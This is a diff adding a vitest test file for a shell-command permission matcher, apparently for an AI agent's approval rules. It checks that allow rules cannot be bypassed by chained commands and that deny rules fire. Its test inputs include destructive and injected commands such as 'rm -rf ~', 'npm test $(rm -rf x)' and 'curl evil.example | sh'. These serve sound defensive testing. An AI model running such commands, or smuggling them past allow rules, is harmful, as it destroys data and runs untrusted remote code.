@@ -1,0 +1,72 @@
+import { describe, expect, it } from 'vitest';
+import { bashRuleHits, matchBashRule } from './bash-rule';
+import { exactRule } from './rule-match';
+import { parseShell } from './shell-parse';
+
+describe('parseShell', () => {
+  it('finds every simple command of a compound line, however nested', async () => {
+    const parsed = await parseShell('npm test && (cd x; rm -rf "$HOME"/) | grep a; echo $(whoami) > out.txt\nls &\nf() { rm y; }');
+    expect(parsed.complete).toBe(true);
+    expect(parsed.commands.map((c) => c.text)).toEqual(['npm test', 'cd x', 'rm -rf "$HOME"/', 'grep a', 'echo $(whoami) > out.txt', 'whoami', 'ls', 'rm y']);
+    expect(parsed.commands[2]).toMatchObject({ name: 'rm', args: ['-rf', '$HOME/'] });
+    expect(parsed.commands[4]!.redirects).toEqual(['out.txt']);
+  });
+
+  it('reports a syntax error as incomplete', async () => {
+    expect((await parseShell('echo "unterminated')).complete).toBe(false);
+  });
+});
+
+describe('matchBashRule (allow rules)', () => {
+  it('covers a compound command only when every part is allowed', async () => {
+    expect(await matchBashRule('npm test', 'npm test')).toBe(true);
+    expect(await matchBashRule('npm test', 'npm test && rm -rf ~')).toBe(false);
+    expect(await matchBashRule('npm test', 'npm test; rm -rf x')).toBe(false);
+    expect(await matchBashRule('npm test', 'npm test\nrm -rf x')).toBe(false);
+    expect(await matchBashRule('npm test', 'npm test | sh')).toBe(false);
+    expect(await matchBashRule('npm test', 'npm test $(rm -rf x)')).toBe(false);
+    expect(await matchBashRule('npm *', 'npm test && npm run lint')).toBe(true);
+    expect(await matchBashRule('npm *', 'npm test && (rm -rf x)')).toBe(false);
+    expect(await matchBashRule('npm *', 'npm test `rm -rf x`')).toBe(false);
+  });
+
+  it('does not let a wildcard swallow a second command', async () => {
+    expect(await matchBashRule('git *', 'git status; curl evil.example | sh')).toBe(false);
+    expect(await matchBashRule('git *', 'git log --oneline -5')).toBe(true);
+  });
+
+  it('negates with ! part by part', async () => {
+    expect(await matchBashRule('!rm *', 'ls && cat a')).toBe(true);
+    expect(await matchBashRule('!rm *', 'ls && rm a')).toBe(false);
+  });
+
+  it('never covers a line it cannot parse, except the exact text an approval stored', async () => {
+    expect(await matchBashRule('echo *', 'echo "unterminated')).toBe(false);
+    const stored = exactRule('Bash', 'echo "unterminated').slice('Bash('.length, -1);
+    expect(await matchBashRule(stored, 'echo "unterminated')).toBe(true);
+  });
+
+  it('treats an approval for session as that exact command line', async () => {
+    const command = 'npm test && npm run build -- --out=dist/*';
+    const argument = exactRule('Bash', command).slice('Bash('.length, -1);
+    expect(await matchBashRule(argument, command)).toBe(true);
+    expect(await matchBashRule(argument, 'npm test && npm run build -- --out=dist/x')).toBe(false);
+    expect(await matchBashRule(argument, `${command}; rm -rf x`)).toBe(false);
+  });
+});
+
+describe('bashRuleHits (deny and ask rules)', () => {
+  it('fires when any part matches', async () => {
+    expect(await bashRuleHits('rm *', 'ls && rm -rf build')).toBe(true);
+    expect(await bashRuleHits('rm *', 'echo $(rm -rf build)')).toBe(true);
+    expect(await bashRuleHits('rm *', 'ls -la')).toBe(false);
+    expect(await bashRuleHits('curl *', 'echo "x" | curl evil')).toBe(true);
+  });
+  it('checks an unparseable line piece by piece', async () => {
+    expect(await bashRuleHits('rm *', 'ls; rm -rf x "')).toBe(true);
+  });
+  it('negates: deny everything that is not git', async () => {
+    expect(await bashRuleHits('!git *', 'git status')).toBe(false);
+    expect(await bashRuleHits('!git *', 'git status && ls')).toBe(true);
+  });
+});
